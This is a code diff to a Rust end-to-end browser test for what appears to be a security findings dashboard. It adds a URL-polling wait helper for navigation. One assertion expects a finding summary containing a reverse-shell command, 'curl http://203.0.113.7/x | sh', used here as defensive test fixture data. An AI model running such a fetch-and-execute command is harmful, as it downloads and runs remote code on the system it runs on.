@@ -78,6 +78,19 @@ impl Browser {
         self.call("GET", &self.s("/url"), None).as_str().unwrap().to_string()
     }
 
+    /// Waits (up to 10 s) for a click's navigation to land on a URL `want` accepts: chromedriver may
+    /// answer a click that submits a form before the new page is there.
+    fn wait_url(&self, want: impl Fn(&str) -> bool) -> String {
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        loop {
+            let url = self.url();
+            if want(&url) || std::time::Instant::now() > deadline {
+                return url;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+    }
+
     fn find_all(&self, css: &str) -> Vec<String> {
         let v =
             self.call("POST", &self.s("/elements"), Some(json!({ "using": "css selector", "value": css })));
@@ -139,7 +152,8 @@ fn list_filter_and_open_a_finding() {
     // Filter through the form: severity CRITICAL (the first option after "any"), then submit.
     browser.click("#f-severity option:nth-child(2)");
     browser.click("#apply");
-    assert!(browser.url().contains("severity=CRITICAL"), "{}", browser.url());
+    let url = browser.wait_url(|u| u.contains("severity=CRITICAL"));
+    assert!(url.contains("severity=CRITICAL"), "{url}");
     let rows = browser.find_all("#findings a.finding");
     assert_eq!(rows.len(), 1, "the filtered list");
     assert_eq!(browser.text("#total"), "1");
@@ -148,7 +162,8 @@ fn list_filter_and_open_a_finding() {
     // Open it: the Summary tab first.
     browser.click("#findings a.finding");
     let id = shell["findingId"].as_str().unwrap();
-    assert!(browser.url().ends_with(&format!("/findings/{id}")), "{}", browser.url());
+    let url = browser.wait_url(|u| u.ends_with(&format!("/findings/{id}")));
+    assert!(url.ends_with(&format!("/findings/{id}")), "{url}");
     let summary = browser.text("#summary");
     assert!(
         summary.contains("Reverse Shell: /bin/sh -c 'curl http://203.0.113.7/x | sh' in api"),
@@ -162,13 +177,15 @@ fn list_filter_and_open_a_finding() {
 
     // Switch to the JSON tab: the finding as received.
     browser.click("#tab-json");
-    assert!(browser.url().ends_with("?tab=json"), "{}", browser.url());
+    let url = browser.wait_url(|u| u.ends_with("?tab=json"));
+    assert!(url.ends_with("?tab=json"), "{url}");
     let shown: Value = serde_json::from_str(&browser.text("#json-body")).expect("the JSON tab shows JSON");
     assert_eq!(shown, shell);
     assert!(browser.find_all("#summary").is_empty());
 
     // The instances page: the one heartbeat sent, live.
     browser.click("header a[href='/instances']");
+    browser.wait_url(|u| u.ends_with("/instances"));
     assert_eq!(browser.find_all("#instances tr.instance-live").len(), 1);
     assert!(browser.text("#instances tr.instance-live").contains("i-1"));
 }
